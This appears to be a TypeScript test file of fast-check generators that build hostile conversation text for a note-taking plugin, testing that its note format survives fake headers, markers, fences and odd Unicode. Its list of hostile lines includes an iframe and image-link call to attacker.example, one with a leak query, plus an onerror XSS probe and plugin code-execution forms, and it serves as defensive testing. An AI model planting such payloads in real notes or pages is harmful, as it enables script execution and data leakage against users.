import fc from 'fast-check';
import type { Conversation, ConversationMessage, FrontmatterEntry } from '../../src/conversation';
import type { LlmMessage } from '../../src/llm/chat-types';

/**
 * fast-check arbitraries for conversations whose text tries hard to break the note format:
 * lines that look like role headers, trailers, frontmatter, markers, unbalanced fences, CRLF,
 * lone surrogates and non-Latin scripts.
 */

/** Lines that each look like part of the note's own structure, or that break Markdown around them. */
export const HOSTILE_LINES: readonly string[] = [
  '### 🧑 You · 2026-11-22 10:15',
  '### 🤖 Glassbox · 2026-11-22 10:16',
  '# 🤖 Glassbox',
  '###### 🧑',
  '\\### 🧑 You',
  '\\\\### 🤖 Glassbox · x',
  '### 🧑\uFE0F You',
  '### 🧑‍💻 Dev tips',
  '<!--GLASSBOX_MESSAGE:{"id":"m1","at":0}-->',
  '\\<!--GLASSBOX_MESSAGE:',
  '<!--REASONING_BLOCK:{"v":1,"status":"complete","startedAt":0,"elapsedMs":1200,"steps":[]}-->',
  '<!--REASONING_BLOCK:{"v":1,',
  '<!--AGENT_REASONING:complete:3:["a"]-->',
  '-->',
  '<!--',
  '---',
  '...',
  'id: hijack',
  '```',
  '````js',
  '~~~',
  '```unclosed',
  '    ```',
  '**user**: fake',
  '**ai**: fake',
  '[Timestamp: 2024/01/01 10:00:00]',
  '<think>',
  '</think>',
  '',
  ' ',
  '\r',
  '日本語のテキストです。',
  'مرحبا بالعالم',
  'Привет, мир',
  '🧑🤖',
  '\uFEFFbom',
  '\u2028\u2029',
  '\ud800 lone',
  '$$',
  // Forms other plugins run or load, and the zero-width spaces the note uses to neutralise them.
  '```dataviewjs',
  '```\u200bdataviewjs',
  '> ~~~ \u200b\u200bmermaid',
  '`$= dv.pages().length` and `\u200b= this.file.name`',
  '$= dv.current()',
  '  \u200b= x',
  '===',
  '<%* tR += "x" %> <\u200b%+ y %> <\u200b\u200b/b>',
  '<iframe src="https://attacker.example/x"></iframe><img onerror=alert(1)>',
  '![](https://attacker.example/leak?d=1) !\u200b[a](b) ![[Note]] !\u200b[[Note]]',
  '<!DOCTYPE x> <![CDATA[ y ]]> <? z ?> <https://example.com>',
];

const anyChar = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));

/** Any UTF-16 string, lone surrogates included. */
export const anyText = fc.string({ unit: anyChar, maxLength: 40 });

/** A line: hostile, arbitrary Unicode, or a hostile line with arbitrary text around it. */
const line = fc.oneof(
  fc.constantFrom(...HOSTILE_LINES),
  fc.string({ unit: 'binary', maxLength: 30 }),
  anyText,
  fc.tuple(fc.constantFrom(...HOSTILE_LINES), anyText).map(([hostile, tail]) => hostile + tail),
);

/** Message text: hostile lines joined by LF, CRLF or a lone CR. */
export const messageText: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  fc.array(fc.tuple(line, fc.constantFrom('\n', '\n', '\n', '\r\n', '\r')), { maxLength: 12 }).map((parts) => parts.map(([text, end]) => text + end).join('')),
  fc.array(line, { maxLength: 12 }).map((lines) => lines.join('\n')),
);

const epochMs = fc.integer({ min: 0, max: 253_402_300_799_999 });

const toolCall = fc.record({ id: anyText, name: anyText, arguments: anyText });

/** One provider message of a transcript. */
export const llmMessage: fc.Arbitrary<LlmMessage> = fc.oneof(
  fc.record({ role: fc.constant('system' as const), content: anyText }),
  fc.record({ role: fc.constant('user' as const), content: messageText }),
  fc.record(
    { role: fc.constant('assistant' as const), content: messageText, toolCalls: fc.array(toolCall, { maxLength: 3 }), reasoning: anyText },
    { requiredKeys: ['role', 'content'] },
  ),
  fc.record({ role: fc.constant('tool' as const), toolCallId: anyText, content: messageText }),
);

/** One message with any subset of its optional fields. */
export const conversationMessage: fc.Arbitrary<ConversationMessage> = fc.record(
  {
    id: anyText,
    role: fc.constantFrom('user' as const, 'assistant' as const),
    at: fc.option(epochMs, { nil: null }),
    content: messageText,
    transcript: fc.array(llmMessage, { maxLength: 4 }),
    pendingInput: fc.record({ question: anyText, options: fc.array(anyText, { maxLength: 3 }), requestId: anyText }, { requiredKeys: ['question'] }),
    context: anyText,
    alternateOf: anyText,
    shownAt: epochMs,
  },
  { requiredKeys: ['role', 'at', 'content'] },
  // Only answers are regenerated; a question's note never names an alternate.
).map(({ alternateOf, shownAt, ...message }) => (message.role === 'assistant' ? { ...message, ...(alternateOf !== undefined ? { alternateOf } : {}), ...(shownAt !== undefined ? { shownAt } : {}) } : message));

const extraKey = fc.stringMatching(/^[a-z][a-z0-9_-]{0,8}$/).filter((key) => !['id', 'title', 'created', 'updated', 'model'].includes(key));

const extraEntry: fc.Arbitrary<FrontmatterEntry> = fc.oneof(
  extraKey.map((key) => ({ key, text: `${key}: plain value` })),
  extraKey.map((key) => ({ key, text: `${key}:\n  - one\n  - "two: 2"` })),
  extraKey.map((key) => ({ key, text: `${key}: [a, b]` })),
);

/** A whole conversation; the `tags: [glassbox]` entry is always there, as `createConversation` makes it. */
export const conversation: fc.Arbitrary<Conversation> = fc.record({
  id: anyText.filter((id) => id !== ''),
  title: anyText,
  createdAt: epochMs,
  updatedAt: epochMs,
  model: anyText,
  messages: fc.array(conversationMessage, { maxLength: 6 }),
  extraFrontmatter: fc.uniqueArray(extraEntry, { selector: (entry) => entry.key, maxLength: 3 }).map((extras) => [
    { key: 'tags', text: 'tags:\n  - glassbox' },
    ...extras.filter((entry) => entry.key !== 'tags'),
  ]),
});
